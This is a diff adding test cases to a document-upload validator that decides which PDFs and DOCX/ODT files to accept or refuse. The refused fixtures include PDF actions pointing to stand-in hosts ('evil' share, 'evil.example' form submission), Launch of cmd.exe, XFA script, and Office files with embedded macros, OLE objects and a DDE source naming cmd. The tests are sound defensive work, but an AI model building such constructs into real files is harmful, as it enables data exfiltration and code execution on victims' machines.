@@ -24,6 +24,10 @@ describe('a PDF is taken', () => {
     ['of the smallest kind', samplePdf],
     ['with packed objects', pdfOf([catalog, pages, packed('<</Type/Font/BaseFont/Helvetica>>')])],
     ['that opens at a place of its own', pdfOf(['<</Type/Catalog/OpenAction[3 0 R/Fit]>>'])],
+    [
+      'with a form to fill in',
+      pdfOf(['<</Type/Catalog/AcroForm<</Fields[2 0 R]>>>>', '<</FT/Tx/T(Name)/V(Ada)>>']),
+    ],
     ['with links', pdfOf([catalog, '<</S/URI/URI(https://example.com/JS)>>'])],
     ['whose texts speak of it', pdfOf([catalog, '<</Title(Lead \\(/JS\\) of /JavaScript (/Launch))>>'])],
     [
@@ -60,6 +64,20 @@ describe('a PDF is refused', () => {
       pdfOf([catalog, Buffer.concat(storedAround(' 1 0 obj '))]),
     ],
     ['with an open text in front of a packed object', pdfOf([catalog, twoPacked('(', script)])],
+    [
+      'with a form in XFA, which has scripts',
+      pdfOf([
+        '<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>',
+        pdfStream('<xdp><script>app.alert(1)</script></xdp>'),
+      ]),
+    ],
+    [
+      'that opens a file of another computer',
+      pdfOf(['<</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)>>>>']),
+    ],
+    ['that opens a file within', pdfOf([catalog, '<</S/GoToE/T<</R/C/N(x.pdf)>>>>'])],
+    ['that sends a form', pdfOf([catalog, '<</S/SubmitForm/F(https://evil.example/)>>'])],
+    ['that takes data in', pdfOf([catalog, '<</S/ImportData/F(x.fdf)>>'])],
     ['that starts a program', pdfOf([catalog, '<</S/Launch/F(cmd.exe)>>'])],
     ['with a file in it', pdfOf(['<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>', pages])],
     ['with a file’s data in it', pdfOf([catalog, pdfStream('MZ', '/Type/EmbeddedFile')])],
@@ -241,6 +259,26 @@ describe('an archive', () => {
   it.each([
     ['macros under another name', docxWith(rels('vbaProject', 'other.bin', '')), 'cv.docx'],
     ['an embedded program', docxWith({ name: 'word/embeddings/oleObject1.bin', bytes: 'x' }), 'cv.docx'],
+    ['a macro document in it', docxWith({ name: 'word/embeddings/a.docm', bytes: 'x' }), 'cv.docx'],
+    ['an old sheet in it', docxWith({ name: 'word/embeddings/b.xls', bytes: 'x' }), 'cv.docx'],
+    ['an embedded document', docxWith(rels('package', 'media/a.docm', '')), 'cv.docx'],
+    ['an embedded object', docxWith(rels('oleObject', 'media/a.png', '')), 'cv.docx'],
+    [
+      'a document of another kind',
+      docxWith(rels('aFChunk', 'a.rtf', ''), { name: 'word/a.rtf', bytes: '{\\rtf1{\\object\\objdata 01}}' }),
+      'cv.docx',
+    ],
+    ['an object', odtWith({ name: 'Object 1', bytes: 'x' }), 'cv.odt'],
+    [
+      'an object under another name',
+      odtWith({ name: 'a.xml', bytes: '<draw:object-ole xlink:href="./x"/>' }),
+      'cv.odt',
+    ],
+    [
+      'data of another program',
+      odtWith({ name: 'a.xml', bytes: '<office:dde-source office:dde-application="cmd"/>' }),
+      'cv.odt',
+    ],
     ['a control', docxWith({ name: 'word/activeX/activeX1.bin', bytes: 'x' }), 'cv.docx'],
     ['scripts', odtWith({ name: 'Scripts/python/x.py', bytes: 'x' }), 'cv.odt'],
     [
@@ -259,6 +297,15 @@ describe('an archive', () => {
       'cv.docx',
     );
     expect(verdict).toEqual({ fault: fileFaults.archive });
+  });
+
+  it('is taken with a chart: its sheet in a DOCX, its object in XML and its picture in an ODT', async () => {
+    const sheet = { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', bytes: 'x' };
+    const folder = { name: 'word/embeddings/', bytes: '' };
+    expect(await documentVerdict(docxWith(folder, sheet), 'cv.docx')).toEqual({ kind: 'docx' });
+    const names = ['Object 1/', 'Object 1/content.xml', 'ObjectReplacements/Object 1'];
+    const parts = names.map((name) => ({ name, bytes: '' }));
+    expect(await documentVerdict(odtWith(...parts), 'cv.odt')).toEqual({ kind: 'odt' });
   });
 
   it('of an old OpenOffice is taken, with the document type of its list', async () => {
